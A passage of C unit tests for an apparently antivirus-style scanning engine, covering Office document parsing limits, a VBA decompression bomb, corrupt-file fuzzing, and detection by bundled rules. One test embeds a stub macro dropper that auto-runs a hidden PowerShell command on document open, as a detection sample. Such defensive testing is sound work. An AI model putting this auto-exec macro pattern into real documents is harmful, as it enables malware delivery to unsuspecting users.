    gen_buf_free(&cab);
}

/* ---------------------------------------------------------------------------------------------
 * Limits and damage
 * ------------------------------------------------------------------------------------------- */

static void test_limits(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    /* max_files: 40 streams, SIG in the last. */
    gen_part parts[40];
    char names[40][16];
    for (int i = 0; i < 40; i++) {
        snprintf(names[i], sizeof(names[i]), "S%02d", i);
        parts[i] = (gen_part){names[i], i == 39 ? SIG : "clean", i == 39 ? strlen(SIG) : 5};
    }
    gen_buf b = {0};
    assert_int_equal(gen_ole2(parts, 40, NULL, &b), 0);
    scan_expect(c, &cfg, "many.doc", &b, ENGINE_VERDICT_DETECTED, NULL, NULL);
    /* The stream's bytes are small, so the raw scan of the file would find SIG: hide it by
     * checking the recording host instead. */
    rec r;
    rec_init(&r);
    r.cfg.max_files = 10;
    assert_int_equal(rec_run(&r, "many.doc", b.p, b.n), 0);
    assert_int_equal(r.children, 10);
    expect_has("notes", r.notes, "Limits.Exceeded.MaxFiles");
    gen_buf_free(&b);

    /* The clock: out of time after a few checks, the walk stops. */
    assert_int_equal(gen_ole2(parts, 40, NULL, &b), 0);
    rec_init(&r);
    r.time_budget = 5;
    assert_int_equal(rec_run(&r, "many.doc", b.p, b.n), 0);
    assert_true(r.children < 5);
    expect_has("notes", r.notes, "Limits.Exceeded.MaxScanTime");
    gen_buf_free(&b);

    /* A stream larger than the member bound, min(max_scan_size, 64 MiB), is streamed. */
    uint8_t *big = calloc(1, 30000);
    gen_part one = {"Big", big, 30000};
    assert_int_equal(gen_ole2(&one, 1, NULL, &b), 0);
    rec_init(&r);
    r.cfg.max_scan_size = 20000;
    assert_int_equal(rec_run(&r, "big.doc", b.p, b.n), 0);
    assert_int_equal(r.streams, 1);
    expect_has("notes", r.notes, "Limits.Exceeded.MaxScanSize");
    r.cfg.max_scan_size = 1u << 20;
    assert_int_equal(rec_run(&r, "big.doc", b.p, b.n), 0);
    expect_has("children", r.log, "big.doc>Big");
    free(big);
    gen_buf_free(&b);

    /* max_compound_size: the document is not unpacked; its raw bytes hide SIG. */
    make_doc_vba("Macros/VBA", &b);
    engine_config small = cfg;
    small.max_compound_size = 1024;
    scan_expect(c, &small, "doc.doc", &b, ENGINE_VERDICT_LIMIT, NULL,
                "Limits.Exceeded.MaxCompoundSize");
    /* max_recursion 0: nothing is unpacked. */
    engine_config flat = cfg;
    flat.max_recursion = 0;
    scan_expect(c, &flat, "doc.doc", &b, ENGINE_VERDICT_LIMIT, NULL,
                "Limits.Exceeded.MaxRecursion");
    /* max_scan_size smaller than the streams. */
    engine_config tiny = cfg;
    tiny.max_scan_size = 100;
    scan_expect(c, &tiny, "doc.doc", &b, ENGINE_VERDICT_LIMIT, NULL, "Limits.Exceeded.MaxScanSize");
    gen_buf_free(&b);
}

static void test_vba_bomb(void **state)
{
    ctx *c = *state;
    /* A module whose source is 16 MiB of one letter compresses to a few bytes per 4 KiB. */
    size_t n = 16u << 20;
    char *src = malloc(n + 1);
    memset(src, 'A', n);
    src[n] = '\0';
    gen_part parts[3];
    gen_buf bufs[3], b = {0};
    char paths[3][128];
    assert_int_equal(gen_vba_project("Macros/VBA", "Module1", src, parts, bufs, paths), 0);
    free(src);
    assert_int_equal(gen_ole2(parts, 3, NULL, &b), 0);
    engine_config cfg;
    engine_config_init(&cfg);
    scan_expect(c, &cfg, "bomb.doc", &b, ENGINE_VERDICT_LIMIT, NULL, "Limits.Exceeded.MaxRatio");
    engine_config lenient = cfg;
    lenient.max_ratio = 1u << 20;
    lenient.max_scan_size = 4u << 20;
    scan_expect(c, &lenient, "bomb.doc", &b, ENGINE_VERDICT_LIMIT, NULL,
                "Limits.Exceeded.MaxScanSize");
    for (int i = 0; i < 3; i++)
        gen_buf_free(&bufs[i]);
    gen_buf_free(&b);
}

static void test_truncated_and_corrupt(void **state)
{
    ctx *c = *state;
    engine_config cfg;
    engine_config_init(&cfg);
    gen_buf b = {0};
    make_doc_vba("Macros/VBA", &b);
    /* Cut in half: libgsf refuses the tables or a stream's chain. */
    gen_buf half = {0};
    gen_put(&half, b.p, b.n / 2);
    uint8_t *copy = malloc(half.n);
    memcpy(copy, half.p, half.n);
    engine_result r;
    assert_int_equal(engine_scan_buffer(c->rules, c->s, &cfg, copy, half.n, "cut.doc", 0, &r), 0);
    assert_int_equal(r.verdict, ENGINE_VERDICT_ERROR);
    assert_non_null(r.reason);
    assert_true(strncmp(r.reason, "ole2: ", 6) == 0 || strncmp(r.reason, "vba: ", 5) == 0);
    engine_result_cleanup(&r);
    free(copy);
    gen_buf_free(&half);

    /* A corrupt dir stream: the module is not found, the document is an error. */
    gen_part parts[3];
    gen_buf bufs[3], d = {0};
    char paths[3][128];
    assert_int_equal(gen_vba_project("VBA", "Module1", evil_vba, parts, bufs, paths), 0);
    bufs[0].p[3] ^= 0x40; /* the first chunk header's signature bits */
    assert_int_equal(gen_ole2(parts, 3, NULL, &d), 0);
    scan_expect(c, &cfg, "bad.bin", &d, ENGINE_VERDICT_ERROR, NULL, "vba: corrupt dir stream");
    for (int i = 0; i < 3; i++)
        gen_buf_free(&bufs[i]);
    gen_buf_free(&d);

    /* Directories libgsf would recurse into without bound, or grind through: refused first. */
    gen_buf dd = {0};
    assert_int_equal(gen_ole2_directory(300, false, &dd), 0); /* a fair tree: read */
    rec rh;
    rec_init(&rh);
    assert_int_equal(rec_run(&rh, "tree.doc", dd.p, dd.n), 0);
    expect_has("children", rh.log, "tree.doc>S299");
    gen_buf_free(&dd);
    assert_int_equal(gen_ole2_directory(2000, true, &dd), 0); /* a chain 2000 deep */
    scan_expect(c, &cfg, "chain.doc", &dd, ENGINE_VERDICT_ERROR, NULL, "ole2: corrupt");
    gen_buf_free(&dd);
    assert_int_equal(gen_ole2_directory(12000, false, &dd), 0); /* shallow but huge */
    scan_expect(c, &cfg, "wide.doc", &dd, ENGINE_VERDICT_ERROR, NULL, "ole2: directory too large");
    gen_buf_free(&dd);
    /* A root entry with siblings (libgsf would leak them). */
    assert_int_equal(gen_ole2_directory(3, false, &dd), 0);
    uint8_t *root = dd.p + 512 * 3; /* header, one FAT sector... */
    assert_int_equal(root[66], 5);
    root[0x48] = 2;
    root[0x49] = root[0x4A] = root[0x4B] = 0;
    scan_expect(c, &cfg, "sib.doc", &dd, ENGINE_VERDICT_ERROR, NULL, "ole2: corrupt");
    gen_buf_free(&dd);

    /* Random damage anywhere: a verdict, never a crash (ASan/UBSan builds check the rest). */
    uint32_t x = 99;
    uint8_t *m = malloc(b.n);
    for (int round = 0; round < 400; round++) {
        memcpy(m, b.p, b.n);
        for (int k = 0; k < 1 + round % 8; k++) {
            x = x * 1103515245u + 12345u;
            size_t at = (x >> 8) % b.n;
            /* Header, FAT and directory sectors are where the damage matters most. */
            if (round % 2 == 0)
                at %= 2048;
            x = x * 1103515245u + 12345u;
            m[at] = (uint8_t)(x >> 16);
        }
        assert_int_equal(engine_scan_buffer(c->rules, c->s, &cfg, m, b.n, "fuzz.doc", 0, &r), 0);
        engine_result_cleanup(&r);
    }
    free(m);
    gen_buf_free(&b);
}

/* The bundled rules on documents: a macro dropper in a .docm is found in its decompressed source.
 */
static void test_bundled_rules(void **state)
{
    (void)state;
    const char *path = AMSI_SOURCE_DIR "/engine/rules/default.yar";
    engine_rules *rules = NULL;
    engine_diag diag;
    if (engine_rules_compile_files(&path, 1, NULL, &rules, &diag) != 0)
        fail_msg("compile: %s", diag.text);
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(rules, &s), 0);
    static const char macro[] =
        "Attribute VB_Name = \"ThisDocument\"\r\n"
        "Private Sub Document_Open()\r\n"
        "    CreateObject(\"WScript.Shell\").Run \"powershell -nop -w hidden\", 0\r\n"
        "End Sub\r\n";
    gen_part vp[3];
    gen_buf vb[3], vba = {0}, b = {0};
    char paths[3][128];
    assert_int_equal(gen_vba_project("VBA", "ThisDocument", macro, vp, vb, paths), 0);
    assert_int_equal(gen_ole2(vp, 3, NULL, &vba), 0);
    static const char ct[] = "<?xml version=\"1.0\"?><Types/>";
    gen_part docm[3] = {{"[Content_Types].xml", ct, sizeof(ct) - 1},
                        {"word/document.xml", "<w:document/>", 13},
                        {"word/vbaProject.bin", vba.p, vba.n}};
    assert_int_equal(gen_ooxml(docm, 3, &b), 0);
    engine_result r;
    assert_int_equal(engine_scan_buffer(rules, s, NULL, b.p, b.n, "invoice.docm", 0, &r), 0);
    assert_int_equal(r.verdict, ENGINE_VERDICT_DETECTED);
    assert_int_equal(r.amsi_result, ENGINE_AMSI_DETECTED);
    assert_string_equal(r.matches[0].rule, "VBA_AutoExec_Shell");
    assert_string_equal(r.object, "invoice.docm>word/vbaProject.bin>VBA/ThisDocument");
    engine_result_cleanup(&r);
    for (int i = 0; i < 3; i++)
        gen_buf_free(&vb[i]);
    gen_buf_free(&vba);
    gen_buf_free(&b);
    engine_scratch_destroy(s);
    engine_rules_unref(rules);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ovba_roundtrip),
        cmocka_unit_test(test_ovba_corrupt),
        cmocka_unit_test(test_ovba_dir),
        cmocka_unit_test(test_ole10native),
        cmocka_unit_test(test_ppt_records),
        cmocka_unit_test(test_word_and_excel_records),
        cmocka_unit_test(test_walk_paths),
        cmocka_unit_test(test_vba_detected),
        cmocka_unit_test(test_native_detected),
        cmocka_unit_test(test_word_text_detected),
        cmocka_unit_test(test_excel_stream_scanned),
        cmocka_unit_test(test_encrypted),
        cmocka_unit_test(test_ppt_objects),
        cmocka_unit_test(test_ooxml),
        cmocka_unit_test(test_msi_cabinet),
        cmocka_unit_test(test_limits),
        cmocka_unit_test(test_vba_bomb),
        cmocka_unit_test(test_truncated_and_corrupt),
        cmocka_unit_test(test_bundled_rules),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
